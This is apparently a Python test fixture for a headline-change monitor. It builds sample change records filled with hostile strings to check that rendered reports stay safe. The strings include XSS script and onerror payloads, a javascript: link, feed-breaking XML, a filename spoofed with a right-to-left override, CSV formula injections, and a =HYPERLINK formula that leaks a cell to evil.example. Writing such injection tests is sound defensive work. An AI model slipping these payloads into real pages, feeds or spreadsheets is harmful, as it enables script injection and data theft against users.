"""Changes to render, tame and hostile."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

from db.records import ChangeRecord
from db.types import Change
from monitor.report.about import About

NOW = datetime(2026, 5, 4, 8, 0, 0, 250_000, tzinfo=UTC)
HOSTILE = (
    "<script>alert(1)</script>",
    "]]></content></entry><entry>",
    "a\x00b\x08c\x0bd\x1b[31me\x7ff\x85g",
    "\u202egnp.exe\u202c \u2066x\u2069",
    "lone \ud800 and \udfff, \ufffe and \uffff",
    "=HYPERLINK(\"https://evil.example/?\"&A1)",
    "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1",
    "[click](javascript:alert(1)) ![x](https://evil.example/p.png) <https://evil.example/>",
    "# heading\n- list\n1. one\n> quote\n```\ncode\n***\n| a | b |\n===",
    "**bold** __bold__ ~~gone~~ `code` \\",
    "&lt;img src=x onerror=alert(1)&gt; &#60;b&#62;",
    "quote \" and ' and, comma; semicolon\r\nnext",
)  # fmt: skip
ABOUT = About("What was edited", NOW, ZoneInfo("Asia/Tokyo"), "http://127.0.0.1:8765/", "00ff" * 4)


def record(
    number: int = 1,
    before: str | None = "Ferry with 12 aboard sinks",
    after: str | None = "Ferry with 20 aboard sinks",
    **other: object,
) -> ChangeRecord:
    """A change of a headline; `other` replaces fields of the record."""
    change = Change("headline", ("number",), "substantive", before, after, facts=(f"{before} → {after}",))
    seen = NOW + timedelta(minutes=number)
    values: dict[str, object] = {
        "id": number,
        "page_id": 1,
        "url": "https://harbour.example/ferry",
        "source": "Harbour Post",
        "headline": after,
        "change": change,
        "not_before": NOW,
        "not_after": seen,
        "created_at": seen + timedelta(seconds=1),
        "revision_before": 1,
        "revision_after": 2,
        "last_seen": seen,
    }
    return ChangeRecord(**{**values, **other})  # type: ignore[arg-type]


def hostile() -> list[ChangeRecord]:
    """A change for each hostile text, which stands in every field that the web fills."""
    return [
        record(number, f"before {text}", text, source=text, url=f"https://harbour.example/?{text}")
        for number, text in enumerate(HOSTILE, 1)
    ]
